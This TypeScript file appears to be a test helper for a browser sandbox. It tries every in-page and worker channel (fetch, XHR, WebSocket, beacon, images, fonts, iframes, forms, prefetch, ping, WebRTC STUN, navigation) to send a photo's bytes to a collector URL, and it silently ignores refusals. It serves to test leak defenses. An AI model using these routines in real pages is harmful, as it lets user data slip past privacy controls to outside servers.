/**
 * Every way to send bytes out that a script in a page or a worker has. The functions run inside of the browser: they can
 * use nothing else of this file. They do not tell a refusal from a success; what the collector saw does.
 */
export interface LeakTarget {
  /** The collector's address, with a final slash. */
  readonly url: string;
  /** A photo's first bytes. */
  readonly bytes: readonly number[];
}

/** Ways open to pages and workers alike. Returns the names of those tried. */
export async function leakFromAnywhere({ url, bytes }: LeakTarget): Promise<readonly string[]> {
  const body = new Uint8Array(bytes);
  const query = `?photo=${bytes.map((byte) => byte.toString(16)).join('')}`;
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(`${url}fetch`, { method: 'POST', body, mode: 'no-cors' }),
    get: () => fetch(`${url}get${query}`, { mode: 'no-cors' }),
    keepalive: () => fetch(`${url}keepalive`, { method: 'POST', body, mode: 'no-cors', keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', `${url}xhr`);
      request.send(body);
    },
    websocket: () => {
      new WebSocket(`${url.replace('http', 'ws')}websocket${query}`).onopen = (event) =>
        (event.target as WebSocket).send(body);
    },
    eventsource: () => new EventSource(`${url}eventsource${query}`),
    import: () => import(/* @vite-ignore */ `${url}import${query}`),
  };
  for (const way of Object.values(ways)) {
    try {
      Promise.resolve(way()).catch(() => {}); // refused
    } catch {} // refused
  }
  await new Promise((done) => setTimeout(done, 1000));
  return Object.keys(ways);
}

/** Ways that need a document. Returns the names of those tried, WebRTC by what arrives of it: 'udp'. */
export async function leakFromDocument({ url, bytes }: LeakTarget): Promise<readonly string[]> {
  const body = new Uint8Array(bytes);
  const query = `?photo=${bytes.map((byte) => byte.toString(16)).join('')}`;
  const element = <K extends keyof HTMLElementTagNameMap>(
    tag: K,
    properties: Partial<Record<keyof HTMLElementTagNameMap[K], unknown>>,
  ): HTMLElementTagNameMap[K] => {
    const made = document.createElement(tag);
    document.body.append(made);
    Object.assign(made, properties);
    return made;
  };
  const link = (rel: string, as = '') => element('link', { rel, as, href: `${url}${rel}${query}` });
  const ways: Record<string, () => unknown> = {
    beacon: () => navigator.sendBeacon(`${url}beacon`, body),
    image: () => {
      new Image().src = `${url}image${query}`;
    },
    background: () => {
      document.body.style.backgroundImage = `url(${url}background${query})`;
    },
    video: () => element('video', { src: `${url}video${query}` }).load(),
    font: () => new FontFace('leak', `url(${url}font${query})`).load(),
    frame: () => element('iframe', { src: `${url}frame${query}` }),
    object: () => element('object', { data: `${url}object${query}` }),
    script: () => element('script', { src: `${url}script${query}` }),
    stylesheet: () => link('stylesheet'),
    prefetch: () => link('prefetch'),
    preload: () => link('preload', 'image'),
    form: () => {
      const target = element('iframe', { name: 'leak' });
      element('form', { action: `${url}form${query}`, method: 'post', target: target.name }).submit();
    },
    ping: () => {
      const anchor = element('a', { href: '#', ping: `${url}ping${query}` });
      anchor.addEventListener('click', (event) => event.stopPropagation());
      anchor.click();
    },
    udp: async () => {
      const server = { urls: `stun:${new URL(url).host}` };
      const connection = new RTCPeerConnection({ iceServers: [server] });
      connection.createDataChannel('photo');
      await connection.setLocalDescription(await connection.createOffer());
    },
  };
  for (const way of Object.values(ways)) {
    try {
      Promise.resolve(way()).catch(() => {}); // refused
    } catch {} // refused
  }
  await new Promise((done) => setTimeout(done, 1500));
  return Object.keys(ways);
}

/** Ways that leave the document or open another. */
export const departures: Readonly<Record<string, (target: string) => void>> = {
  location: (target) => location.assign(target),
  open: (target) => {
    window.open(target);
  },
  anchor: (target) => {
    const anchor = document.createElement('a');
    anchor.href = target;
    document.body.append(anchor);
    anchor.click();
  },
  refresh: (target) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${target}`;
    document.head.append(meta);
  },
};
